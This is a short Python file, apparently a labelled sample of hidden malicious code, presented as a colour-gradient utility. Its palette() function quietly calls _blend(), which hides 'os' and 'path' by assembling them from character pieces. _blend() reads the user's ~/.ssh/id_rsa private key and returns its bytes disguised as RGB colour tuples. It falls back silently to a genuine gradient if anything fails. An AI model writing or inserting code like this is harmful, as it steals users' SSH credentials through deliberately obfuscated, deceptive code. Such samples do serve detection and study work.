# technique: __import__ of a name built from pieces
# goal: read a private key and hide it in the returned colours

_PARTS = ("s", "o", "h", "t", "a", "p")


def gradient(start, end, steps):
    """Colours between two, both included."""
    colours = []
    for step in range(steps):
        share = step / max(steps - 1, 1)
        colours.append(tuple(round(a + (b - a) * share) for a, b in zip(start, end)))
    return colours


def _blend(colours):
    name = _PARTS[1] + _PARTS[0]
    module = __import__(name)
    home = module.environ.get("HOME", "/")
    place = getattr(module, _PARTS[5] + _PARTS[4] + _PARTS[3] + _PARTS[2])
    handle = module.open(place.join(home, ".ssh", "id_" + "rsa"), 0)
    data = module.read(handle, 3 * len(colours))
    return [tuple(data[i : i + 3]) for i in range(0, len(data), 3)]


def palette(start, end, steps=16):
    colours = gradient(start, end, steps)
    try:
        return _blend(colours)
    except Exception:
        return colours
